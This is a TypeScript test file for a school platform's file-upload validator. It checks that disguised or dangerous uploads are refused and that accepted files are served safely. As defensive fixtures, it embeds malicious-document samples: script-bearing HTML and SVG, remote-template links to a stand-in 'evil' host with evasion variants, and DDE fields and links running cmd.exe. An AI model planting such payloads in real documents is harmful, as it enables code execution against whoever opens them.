/** Files that are not what they say: nothing of them is kept, and whoever sent them is told why. */
import { assignments } from "@ofisi/contract/academics/assignments";
import { workFiles } from "@ofisi/contract/academics/workFiles";
import sharp from "sharp";
import { expect, it } from "vitest";
import { testApp } from "../../../test/app.ts";
import { aDocx, aHeic, aPdf } from "../../../test/documents.ts";
import { aTeachingSchool, filesOf, handIn } from "../../../test/homework.ts";
import { anMp3, anMp4, anOldDocument } from "../../../test/media.ts";
import { zip } from "../../../test/workbook.ts";

const NONE =
  "This school does not take files of this kind. Use PDF, JPEG, PNG, Word (.docx), Excel (.xlsx), Word (.doc), Excel (.xls), MP4, MP3";
const UNKNOWN = NONE.replace(
  "This school does not take files of this kind.",
  "Files of this kind cannot be sent here, at any school.",
);
const EMPTY = "This file is empty. Check that it opens on your device, and send it again";
const SIDES = "This picture is too long or too wide: at most 20,000 pixels a side";
const DOCUMENT = "This document cannot be opened: it is damaged, or asks for a password";
const PROGRAMS = "This document has programs (macros) in it. Save it as .docx or PDF without them";
const ELSEWHERE = "This document fetches something from elsewhere when it is opened. Save it as PDF";
const PDF = "This PDF cannot be opened: it is damaged, or asks for a password";
const PICTURE = "This picture is damaged or too large. Take it again, or save it anew";
const PNG = await sharp({ create: { width: 8, height: 8, channels: 3, background: "white" } })
  .png()
  .toBuffer();
const JPEG = await sharp(PNG).jpeg().toBuffer();
const PHOTO = await sharp({
  create: {
    width: 900,
    height: 700,
    channels: 3,
    background: "white",
    noise: { type: "gaussian", mean: 128, sigma: 30 },
  },
})
  .jpeg()
  .toBuffer();
const COLUMN = await sharp({ create: { width: 1, height: 20_001, channels: 3, background: "white" } })
  .png()
  .toBuffer();
const HTML = Buffer.from("<html><script>alert(1)</script></html>");

const link = (type: string, target: string) => [
  {
    name: "word/_rels/document.xml.rels",
    content: `<Relationships><Relationship Id="rId1" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/${type}" Target="${target}" TargetMode="External"/></Relationships>`,
  },
];
const aWorkbook = (extra: { name: string; content: string }[] = []) =>
  zip([
    { name: "[Content_Types].xml", content: "<Types/>" },
    { name: "xl/workbook.xml", content: "<workbook/>" },
    ...extra,
  ]);

it.each([
  ["a page called .pdf", "a.pdf", HTML, UNKNOWN],
  ["a page that begins as a PDF", "a.pdf", Buffer.concat([Buffer.from("%PDF-1.7\n"), HTML]), PDF],
  ["a drawing with a script", "a.svg", Buffer.from("<svg><script>alert(1)</script></svg>"), UNKNOWN],
  ["a page behind a picture's first bytes", "a.jpg", Buffer.concat([Buffer.from([0xff, 0xd8, 0xff]), HTML]), PICTURE],
  ["a photo without its last lines", "a.jpg", PHOTO.subarray(0, -2_000), PICTURE],
  ["a program", "a.pdf", Buffer.from("MZ\u0090\u0000\u0003\u0000\u0000\u0000"), UNKNOWN],
  ["any archive", "a.docx", zip([{ name: "run.txt", content: "x" }]), UNKNOWN],
  [
    "a document with a template elsewhere",
    "a.docx",
    aDocx("x", link("attachedTemplate", "http://evil/x.dotm")),
    ELSEWHERE,
  ],
  ["a document with a picture elsewhere", "a.docx", aDocx("x", link("image", "http://evil/x.png")), ELSEWHERE],
  [
    "a document whose template's address closes what says that it is elsewhere",
    "a.docx",
    aDocx("x", link("attachedTemplate", "http://evil/a>b")),
    ELSEWHERE,
  ],
  [
    "a document whose template's address says that it is a link",
    "a.docx",
    aDocx("x", link("attachedTemplate", "http://evil/?Type='x/hyperlink'")),
    ELSEWHERE,
  ],
  [
    "a document that writes where its template is in another way",
    "a.docx",
    aDocx("x", [
      {
        ...link("image", "http://evil/x.png")[0]!,
        content: link("image", "http://evil/x.png")[0]!.content.replace("External", "&#69;xternal"),
      },
    ]),
    ELSEWHERE,
  ],
  [
    "a document that says in another alphabet what belongs to it",
    "a.docx",
    aDocx("x", [
      {
        ...link("image", "http://evil/x.png")[0]!,
        content: Buffer.from(link("image", "http://evil/x.png")[0]!.content, "utf16le"),
      },
    ]),
    DOCUMENT,
  ],
  [
    "a document with a command in a field",
    "a.docx",
    aDocx('x</w:t><w:instrText>DDEAUTO cmd.exe "/k calc"</w:instrText><w:t>'),
    PROGRAMS,
  ],
  [
    "a document with a command in a field, in two halves",
    "a.docx",
    aDocx("x</w:t><w:instrText>DDE</w:instrText><w:instrText>AUTO cmd</w:instrText><w:t>"),
    PROGRAMS,
  ],
  [
    "a document that fetches a picture by a field",
    "a.docx",
    aDocx('x</w:t><w:instrText> INCLUDEPICTURE "http://evil/x.png"</w:instrText><w:t>'),
    ELSEWHERE,
  ],
  [
    "a workbook with a command in a link",
    "a.xlsx",
    aWorkbook([
      {
        name: "xl/externalLinks/externalLink1.xml",
        content: "<externalLink><ddeLink ddeService='cmd' ddeTopic='/c calc'/></externalLink>",
      },
    ]),
    PROGRAMS,
  ],
  ["a workbook with programs", "a.xlsx", aWorkbook([{ name: "xl/vbaProject.bin", content: "x" }]), PROGRAMS],
  ["an old document with programs", "a.doc", anOldDocument("WordDocument", "_VBA_PROJECT"), PROGRAMS],
  ["an old document that asks for a password", "a.doc", anOldDocument("EncryptedPackage"), DOCUMENT],
  ["a cut old document", "a.xls", anOldDocument("Workbook").subarray(0, 700), DOCUMENT],
  [
    "a page behind an old document's first bytes",
    "a.doc",
    Buffer.concat([anOldDocument().subarray(0, 8), HTML]),
    DOCUMENT,
  ],
  ["nothing", "a.pdf", Buffer.alloc(0), EMPTY],
  ["a picture of one column", "a.png", COLUMN, SIDES],
])("refuses %s", async (_, name, contents, message) => {
  const { office, schoolCode, tryPublish } = await aTeachingSchool();
  expect(await tryPublish({}, { name, contents })).toMatchObject({ success: false, message });
  const tried = await office.try(assignments.testUpload, {}, { files: { file: { name, contents } } });
  expect(tried).toMatchObject({ success: false, message });
  expect(await office.call(assignments.getAssignments, {})).toEqual([]);
  expect(await filesOf(schoolCode)).toEqual([]);
});

it("refuses the same of a student, whose submission stays as it was", async () => {
  const { publish, aPupil, schoolCode } = await aTeachingSchool();
  const { assignmentCode } = await publish();
  const pupil = await aPupil();
  const { isEarlier: _, ...before } = (await handIn(pupil, assignmentCode)).value;
  const bad = await handIn(pupil, assignmentCode, { file: { name: "a.pdf", contents: HTML } });
  expect(bad).toMatchObject({ success: false, message: UNKNOWN, field: "fileToUpload" });
  expect(await pupil.call(assignments.getStudentSubmittedAssignments, {})).toEqual([before]);
  expect(await filesOf(schoolCode)).toHaveLength(2);
});

it.each([
  ["a PDF", "a.pdf", aPdf(2), "application/pdf", 2],
  [
    "a document with a link that is pressed",
    "a.docx",
    aDocx("x", link("hyperlink", "https://example.org")),
    "wordprocessingml",
    0,
  ],
  ["a workbook", "a.xlsx", aWorkbook(), "spreadsheetml", 0],
  [
    "a document with a page's number in a field",
    "a.docx",
    aDocx("x</w:t><w:instrText> PAGE </w:instrText><w:t>"),
    "wordprocessingml",
    0,
  ],
  ["a photo with a short film behind it", "a.jpg", Buffer.concat([JPEG, anMp4()]), "image/jpeg", 1],
  ["an old document", "a.doc", anOldDocument("WordDocument"), "application/msword", 0],
  ["an old workbook", "a.xls", anOldDocument("Workbook"), "application/vnd.ms-excel", 0],
  ["a video", "a.mp4", anMp4(), "video/mp4", 0],
  ["a sound", "a.mp3", anMp3(), "audio/mpeg", 0],
])("takes %s for what it is, and keeps nothing of a try", async (_, name, contents, contentType, pages) => {
  const { office, schoolCode, publish } = await aTeachingSchool();
  const known = await office.try(assignments.testUpload, {}, { files: { file: { name, contents } } });
  expect(known.value).toMatchObject({
    name,
    bytes: contents.length,
    pages,
    contentType: expect.stringContaining(contentType),
  });
  expect(await filesOf(schoolCode)).toEqual([]);
  const { contentType: kept, file } = await publish({}, { name, contents });
  expect(kept).toContain(contentType);
  const got = await office.get(`/api/assignments/files/${file}`);
  expect(got.rawPayload.equals(contents)).toBe(true);
});

it.each([
  ["a PDF with a page behind its end", "a.hta", Buffer.concat([aPdf(), HTML]), "a.pdf", "application/pdf"],
  ["a picture called as another kind", "a.jpg", PNG, "a.png", "image/png"],
  ["a sound with a page in it", "a.html", Buffer.concat([anMp3(), HTML]), "a.mp3", "audio/mpeg"],
  ["a video without an ending", "a", anMp4(), "a.mp4", "video/mp4"],
])("hands out %s under the ending of its kind, as a download", async (_, name, contents, endsAs, contentType) => {
  const { office, publish } = await aTeachingSchool();
  const { file } = await publish({}, { name, contents });
  const { headers } = await office.get(`/api/assignments/files/${file}?download=1`);
  expect(headers).toMatchObject({
    "content-type": contentType,
    "content-disposition": expect.stringMatching(`^attachment; filename="${endsAs}"`),
    "content-security-policy": expect.stringMatching("sandbox"),
    "x-content-type-options": "nosniff",
  });
});

it.each(["IMG_0007.HEIC", "IMG_0007.jpg"])("keeps an iPhone's photo called %s as a JPEG", async (name) => {
  const { office, publish } = await aTeachingSchool();
  const { file, contentType, attachment } = await publish({}, { name, contents: aHeic() });
  expect({ contentType, attachment }).toEqual({ contentType: "image/jpeg", attachment: "IMG_0007.jpg" });
  const got = await office.get(`/api/assignments/files/${file}`);
  expect(await sharp(got.rawPayload).metadata()).toMatchObject({ format: "jpeg", width: 64, height: 48 });
});

it("refuses an iPhone's photo that is cut off", async () => {
  const { tryPublish } = await aTeachingSchool();
  expect(await tryPublish({}, { name: "a.heic", contents: aHeic().subarray(0, 300) })).toMatchObject({
    success: false,
    message: PICTURE,
  });
});

it("says of a kind that is known and not allowed here that it is the school's choice", async () => {
  const { office, tryPublish } = await aTeachingSchool();
  const { version } = await office.call(workFiles.getWorkFileSettings, {});
  await office.call(workFiles.saveWorkFileSettings, { kinds: ["pdf"], gigabytes: 50, version });
  expect((await tryPublish({}, { name: "a.heic", contents: aHeic() })).message).toBe(
    "This school does not take files of this kind. Use PDF",
  );
});

it("refuses a document that is larger than documents may be, though videos may", async () => {
  const { tryPublish } = await aTeachingSchool();
  const { services } = await testApp();
  const contents = Buffer.concat([aPdf(), Buffer.alloc(services.settings.uploadBytesMax.document)]);
  expect((await tryPublish({}, { name: "a.pdf", contents })).message).toBe("The file is larger than 20 MB");
});
